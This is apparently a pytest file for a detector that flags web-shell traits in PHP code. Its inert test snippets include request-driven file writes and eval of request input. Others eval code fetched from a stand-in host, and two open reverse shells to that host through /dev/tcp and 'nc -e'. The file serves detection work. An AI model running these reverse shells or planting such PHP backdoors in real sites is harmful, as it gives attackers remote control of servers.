from codered.detect.scripts.facts import Script
from codered.detect.scripts.php.reading import read_facts

DEAD = "<?php die('inert example'); "


def find_facts(code: str) -> set[str]:
    return {fact.name for fact in read_facts(Script("php", DEAD + code))}


def test_files_hosts_and_databases() -> None:
    assert "writes-request-file" in find_facts("file_put_contents($_POST['n'], $_POST['c']);")
    assert "writes-request-file" in find_facts("$h = fopen($_POST['n'], 'w'); fwrite($h, $_POST['c']);")
    assert "writes-request-file" not in find_facts("file_put_contents(DATA . '/log', $_POST['c']);")
    assert "keeps-upload-as-sent" in find_facts("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);")
    assert "connects-to-request-host" in find_facts("fsockopen($_GET['h'], 80);")
    assert "runs-request-query" in find_facts("mysql_query($_POST['q']);")
    assert "runs-request-query" not in find_facts("mysql_query('SELECT 1 WHERE a=' . $_POST['q']);")


def test_code_in_other_clothes() -> None:
    assert "runs-request-code" in find_facts("preg_replace('/x/e', $_GET['c'], 'x');")
    assert "runs-request-code" in find_facts("include 'php://input';")
    assert "includes-request-file" in find_facts("include $_GET['f'];")
    assert "includes-request-file" not in find_facts("include 'pages/' . basename($_GET['f']) . '.php';")
    assert "runs-request-code" in find_facts("eval(base64_decode('ZXZhbCgkX1BPU1RbJ3gnXSk7'));")
    assert "runs-fetched-code" in find_facts("eval(file_get_contents('http://192.0.2.1/x'));")


def test_a_fixed_command_that_ties_a_shell_to_another_host() -> None:
    assert "connects-back" in find_facts("exec(\"/bin/bash -c 'bash -i > /dev/tcp/192.0.2.1/9 0>&1'\");")
    assert "connects-back" in find_facts("$c = 'nc -e /bin/sh 192.0.2.1 9'; system($c);")
    assert "connects-back" not in find_facts("exec('/usr/bin/convert -e shape.png');")


def test_a_check_counts_only_of_what_was_sent() -> None:
    upload = "$n = $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], $n);"
    assert "checks-uploads" not in find_facts("in_array(1, [1]); pathinfo('a.txt');" + upload)
    ending = "$e = strtolower(end(explode('.', $_FILES['f']['name']))); if (!in_array($e, ['gif'])) exit;"
    assert "checks-uploads" in find_facts(ending + upload)
    assert "checks-uploads" in find_facts("getimagesize($_FILES['f']['tmp_name']);" + upload)
    assert "checks-uploads" in find_facts("finfo_file($i, $_FILES['f']['tmp_name']);" + upload)
